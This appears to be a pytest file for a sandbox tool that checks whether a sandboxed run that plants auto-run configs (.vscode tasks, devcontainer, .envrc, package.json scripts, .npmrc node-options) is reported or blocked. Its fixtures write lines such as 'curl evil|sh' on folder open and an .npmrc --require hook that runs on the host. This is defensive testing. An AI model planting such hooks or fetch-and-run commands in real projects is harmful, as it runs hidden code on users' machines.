"""Files the host's tools run later, outside git (.vscode/, .idea/, .devcontainer/,
.github/workflows/, .gitlab-ci.yml, .envrc, .husky/, .pre-commit-config.yaml, the
scripts of a package.json): a run that created or changed one is reported, one line
each, and in the audit log (fs.exec); the node preset makes them read-only."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Boxy, User
from tests.escape.conftest import assert_contained, describe, run_py

pytestmark = pytest.mark.sandbox

PLANT = """set -e
mkdir -p .vscode .github/workflows sub/.devcontainer
printf '{"tasks":[{"label":"x","command":"curl evil|sh","runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json
printf 'on: push\\n' > .github/workflows/ci.yml
printf '{"postCreateCommand":"sh evil"}' > sub/.devcontainer/devcontainer.json
printf 'curl evil | sh\\n' > .envrc
sed -i 's/"test": "true"/"test": "true", "prepare": "sh evil"/' package.json
sed -i 's/"1.0.0"/"1.0.1"/' other/package.json
echo TRIED planted
"""


def test_created_and_changed_tools_files_are_reported(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    (workdir / "package.json").write_text(
        json.dumps({"name": "p", "version": "1.0.0", "scripts": {"test": "true"}}) + "\n"
    )
    (workdir / "other").mkdir()
    (workdir / "other/package.json").write_text(
        json.dumps({"name": "o", "version": "1.0.0"}) + "\n"
    )
    user.chown(workdir)
    r = boxy.sh(PLANT, "--audit-log", "audit.jsonl")
    assert r.returncode == 0 and b"TRIED planted" in r.stdout, describe(r)
    lines = [ln for ln in r.stderr.decode().splitlines() if "tools' files" in ln]
    reported = {
        ln.split("tools' files: ", 1)[1].split(" (", 1)[0].replace(f"{workdir}/", "")
        for ln in lines
    }
    assert reported == {
        "created .vscode",
        "created .github/workflows",
        "created sub/.devcontainer",
        "created .envrc",
        "changed the scripts of package.json",
    }, describe(r)
    records = [json.loads(x) for x in (workdir / "audit.jsonl").read_text().splitlines()]
    assert len([x for x in records if x["layer"] == "fs.exec"]) == 5
    # a plain second run changes nothing and says nothing
    r2 = boxy.sh("true")
    assert "tools' files" not in r2.stderr.decode(), describe(r2)


def test_node_preset_makes_them_read_only(boxy: Boxy, user: User, workdir: Path) -> None:
    (workdir / ".vscode").mkdir()
    (workdir / ".vscode/settings.json").write_text("{}\n")
    (workdir / ".envrc").write_text("export X=1\n")
    user.chown(workdir)
    r = boxy.run(
        "--profile",
        "node",
        "--net",
        "none",
        cmd=["sh", "-c", "echo '{}' > .vscode/tasks.json; echo evil >> .envrc; echo TRIED done"],
    )
    assert b"TRIED done" in r.stdout, describe(r)
    assert "Read-only file system" in r.stderr.decode(), describe(r)
    assert not (workdir / ".vscode/tasks.json").exists()
    assert (workdir / ".envrc").read_text() == "export X=1\n"


# §4: a tool's own config that runs the payload's code on the user's host `npm test`
HOOK = "console.log('HOOK ran on the host')"
NODE_OPTIONS = "node-options=--require=./node_modules/.cache/h.js\n"
PLANT_NPMRC = f"""set -e
mkdir -p node_modules/.cache
printf "{HOOK}" > node_modules/.cache/h.js
printf '{NODE_OPTIONS}' > .npmrc
echo TRIED planted
"""


def test_a_planted_npmrc_is_named_and_really_runs_on_the_host(
    boxy: Boxy, user: User, workdir: Path
) -> None:
    (workdir / "package.json").write_text(
        json.dumps({"name": "p", "version": "1.0.0", "scripts": {"test": "node -e 0"}}) + "\n"
    )
    user.chown(workdir)
    r = boxy.sh(PLANT_NPMRC)
    assert r.returncode == 0 and b"TRIED planted" in r.stdout, describe(r)
    assert (
        f"boxyctl: tools' files: created {workdir}/.npmrc (npm runs or installs what "
        "node-options says): review it before your tools run it"
    ) in r.stderr.decode(), describe(r)
    # the control: the host's own npm, as the user, with no network (offline, a loopback
    # registry nobody listens on), runs the planted module before the test script
    host = user.run(
        ["npm", "test", "--silent"],
        cwd=workdir,
        timeout=60,
        extra_env={
            "npm_config_offline": "true",
            "npm_config_registry": "http://127.0.0.1:9/",
            "npm_config_update_notifier": "false",
            "npm_config_cache": str(workdir / ".npm-cache"),
        },
    )
    assert host.returncode == 0 and b"HOOK ran on the host" in host.stdout, describe(host)


NODE_WRITES = """
for name in (".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".venv/pip.conf"):
    try:
        with open(name, "a") as f:
            f.write("\\nnode-options=--require=./h.js\\n")
    except OSError as e:
        tried("write-" + name, ename(e))
    else:
        escaped("write-" + name, "a tool's config was changed under -p node")
with open(".yarnrc.yml") as f:
    text = f.read()
tried("yarnrc-read", "token" if "SECRETtok" in text else "clean")
if "SECRETtok" in text:
    escaped("yarnrc-read", "the token under the protect entry is readable")
"""


@pytest.mark.parametrize("preset", ["node", "python"])
def test_install_presets_refuse_writing_the_tools_configs(
    boxy: Boxy, user: User, workdir: Path, preset: str
) -> None:
    before = {
        ".npmrc": "fund=false\n",
        ".yarnrc": "network-timeout 60000\n",
        ".yarnrc.yml": "npmRegistryServer: https://r.example\nnpmAuthToken: SECRETtok\n",
        ".pnpmfile.cjs": "module.exports = {}\n",
        ".venv/pip.conf": "[global]\ntimeout = 9\n",
    }
    for rel, text in before.items():
        (workdir / rel).parent.mkdir(parents=True, exist_ok=True)
        (workdir / rel).write_text(text)
    user.chown(workdir)
    r = run_py(boxy, NODE_WRITES, "--profile", preset)
    # the masked one's stand-in (mode 0444, on top of the protect entry) says EACCES
    got = assert_contained(
        r,
        "yarnrc-read",
        results={
            **{f"write-{n}": {"EROFS"} for n in before},
            "write-.yarnrc.yml": {"EROFS", "EACCES"},
            "yarnrc-read": {"clean"},
        },
    )
    assert got["yarnrc-read"] == "clean"
    for rel, text in before.items():
        assert (workdir / rel).read_text() == text, rel
